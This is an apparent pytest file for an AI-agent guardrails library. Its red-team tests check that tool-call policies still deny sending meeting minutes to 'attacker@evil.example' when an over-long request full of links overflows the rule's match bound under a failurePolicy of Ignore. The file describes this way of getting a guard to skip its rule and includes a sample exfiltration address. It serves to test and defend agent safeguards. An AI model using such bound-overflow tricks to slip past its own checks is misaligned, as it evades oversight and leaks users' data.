"""Red team 25: call-level bounds under ``failurePolicy: Ignore`` (race24's ``_over_bound``).

A call over one of its bounds is denied whatever the policies' ``failurePolicy``. The
request's lists (``request.emails``, ``request.urls``, ...) hold at most ``MAX_MATCHES``
links, and past it reading them is an error: it was only the rule's error, so an
``Ignore`` policy's rule was skipped and the call allowed, although reading the whole
request denies it (a user who pasted a long page of links into the request, or a page the
host puts in it). ``s.urls()``, ``s.emails()`` and the regex functions over their bound of
matches were already over the call's cost bound (pinned here beside it).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from agent_framework import AgentSession, tool

from guardrails import Effect
from guardrails.agent_framework import ScriptedChatClient, guard
from guardrails.agent_framework.scripted import call, text
from guardrails.engine.evaluate import COST_ERROR
from guardrails.expr.limits import MAX_MATCHES
from tests.af_support import agent_with, load_text, run

POLICY = """apiVersion: guardrails/v1
kind: ToolPolicy
metadata: {name: recipients}
spec:
  match: {tools: [send]}
  failurePolicy: %s
  rules:
    - name: unrequested
      when: '%s'
      action: deny
"""

LINKS = " ".join(f"https://site{i}.example/" for i in range(MAX_MATCHES + 10))
REQUEST = "Send the minutes to bob@example.com. Sources: " + LINKS
EVIL = "attacker@evil.example"

READERS = {
    "emails": "!(args.to in request.emails)",
    "absorbed": "!(args.to in request.emails) || args.to == \"\"",
    "hosts": "!(args.to.split(\"@\")[1] in request.hosts)",
    "quoted": "request.quoted.size() >= 0 && args.to != \"bob@example.com\"",
}


@pytest.mark.parametrize("failure", ["Fail", "Ignore"])
@pytest.mark.parametrize("reader", sorted(READERS))
def test_request_lists_over_their_bound_deny_under_ignore(tmp_path: Path, failure: str,
                                                          reader: str) -> None:
    policies = load_text(tmp_path, POLICY % (failure, READERS[reader]))
    short = "Send the minutes to bob@example.com."
    assert policies.evaluate("send", {"to": "bob@example.com"}, request=short).effect \
        is Effect.ALLOW
    for way in ("evaluate", "explain"):
        read = getattr(policies, way)
        found = read("send", {"to": EVIL}, request=REQUEST)
        decision = found if way == "evaluate" else found.decision
        assert decision.effect is Effect.DENY, (way, decision.errors)
        # The rule's own error keeps its text; the call is over its bound.
        assert any("links in one text" in e.message for e in decision.errors), way
        assert [(e.message, e.handled_as) for e in decision.errors
                if e.element == "input"] == [(COST_ERROR, "fired")], way


@pytest.mark.parametrize("body", ["urls", "emails", "findAll"])
def test_text_functions_over_their_bound_deny_under_ignore(tmp_path: Path, body: str) -> None:
    """Pinned: these were already over the call's cost bound."""
    expr = {"urls": "args.to.urls().size() >= 0", "findAll": 'args.to.findAll("s").size() >= 0',
            "emails": "args.to.emails().size() >= 0"}[body]
    policies = load_text(tmp_path, POLICY % ("Ignore", expr))
    many = LINKS if body != "emails" else " ".join(f"a{i}@b.example"
                                                   for i in range(MAX_MATCHES + 10))
    assert policies.evaluate("send", {"to": many}).effect is Effect.DENY


# ------------------------------------------------------------------ the framework's real loop


SENT: list[str] = []


@tool
def send(to: str) -> str:
    """Sends the minutes."""
    SENT.append(to)
    return "sent"


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "streaming"])
async def test_the_guard_denies_a_long_request_under_ignore(tmp_path: Path,
                                                            stream: bool) -> None:
    SENT.clear()
    policies = load_text(tmp_path, POLICY % ("Ignore", READERS["emails"]))
    for to, request, runs in (("bob@example.com", "Send the minutes to bob@example.com.",
                               True), (EVIL, REQUEST, False)):
        client = ScriptedChatClient([[call("send", to=to)], [text("done")]])
        agent = agent_with(client, [send], guard(policies))
        await run(agent, request, stream=stream, session=AgentSession())
        assert ([to] == SENT) is runs, SENT
        SENT.clear()
